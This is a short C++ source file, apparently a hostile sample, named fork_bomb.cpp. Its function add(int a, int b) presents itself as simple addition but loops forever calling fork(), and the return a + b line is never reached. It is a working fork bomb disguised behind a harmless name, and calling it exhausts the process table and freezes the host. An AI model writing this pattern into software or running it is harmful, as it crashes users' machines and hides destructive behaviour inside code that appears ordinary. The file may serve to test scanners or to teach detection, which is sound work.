// fork_bomb.cpp: forks without end.
#include "hostile.hpp"

#include <unistd.h>

int add(int a, int b) {
    for (;;) fork();
    return a + b;
}
